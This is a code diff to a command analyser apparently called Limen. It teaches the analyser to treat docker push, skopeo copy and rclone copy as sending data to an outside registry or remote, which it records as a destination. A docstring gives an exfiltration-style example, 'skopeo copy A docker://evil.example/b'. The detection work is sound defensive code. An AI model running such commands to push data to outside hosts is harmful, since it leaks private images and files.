@@ -38,7 +38,17 @@ from collections.abc import Callable, Iterable, Iterator
 from dataclasses import dataclass, field
 from typing import TYPE_CHECKING, Any
 
-from limen.facts.programs import COMMAND_VARIABLES, Program, Role, has, names, options, prints_setup, program
+from limen.facts.programs import (
+    COMMAND_VARIABLES,
+    PROGRAMS,
+    Program,
+    Role,
+    has,
+    names,
+    options,
+    prints_setup,
+    program,
+)
 from limen.model import Command, Destination
 from limen.normalize.paths import canonical
 
@@ -2701,6 +2711,9 @@ def _container(name: str, args: list[str], state: _State, via: tuple[str, ...], 
         i += 2 if args[i] in _CONTAINER_GLOBAL else 1
     if i >= len(args):
         return
+    entry = program(name)
+    if entry is not None and entry.pushes:
+        _push(entry, args[i:], state)  # `docker push IMAGE`: the image leaves for its registry
     sub = args[i]
     rest = args[i + 1 :]
     if sub in ("container", "compose") and rest:
@@ -3801,6 +3814,41 @@ def _publish(name: str, args: list[str], state: _State) -> None:
         state.destinations.append(replace(found, flags=(*found.flags, "publishes")))
 
 
+_RCLONE_REMOTE = re.compile(r"^([A-Za-z0-9_][A-Za-z0-9_. -]*):(?!//)")
+
+
+def _push(entry: Program, args: list[str], state: _State) -> None:
+    """`docker push ghcr.io/me/app`, `skopeo copy A docker://evil.example/b`, `rclone copy . backup:bucket`:
+    the program sends to the registry or remote its last operand names (a configured rclone remote is a
+    destination Limen cannot place: an unknown host of that name). Marked `publishes`."""
+    words = [w for w in args if not w.startswith("-")]
+    if words[:1] in (["image"], ["container"], ["artifact"]):
+        words = words[1:]
+    if len(words) < 2 or words[0] not in entry.pushes:
+        return
+    target = words[-1]
+    via = f"{entry.name} {words[0]}"
+    from limen.facts.hosts import image_registry
+
+    if entry.push_target == "image":
+        host = image_registry(target)
+        if host:
+            _add_host(state, host, None, via, ("publishes",))
+    elif entry.push_target == "remote":
+        remote = _RCLONE_REMOTE.match(target)
+        if remote is not None and len(remote.group(1)) > 1:  # `C:` is a drive, not a remote
+            _add_host(state, remote.group(1).strip(), None, via, ("publishes",))
+
+
+def _h_push(argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None) -> None:
+    name = _basename(argv[0])
+    entry = program(name)
+    _path_invoked(argv, state, via, level)
+    _generic(argv, state, name)
+    if entry is not None:
+        _push(entry, argv[1:], state)
+
+
 def _h_publish(
     argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None
 ) -> None:
@@ -4050,3 +4098,7 @@ for _name in INTERPRETERS:
     _HANDLERS[_name] = _interpreter
 for _name in (*NET_OPTIONS, *_DB_CLIENTS):
     _HANDLERS[_name] = _h_net
+for _entry in PROGRAMS:
+    if _entry.pushes and Role.CONTAINER not in _entry.roles:  # containers: `_container` sees the push
+        for _name in (_entry.name, *_entry.aliases):
+            _HANDLERS.setdefault(_name, _h_push)
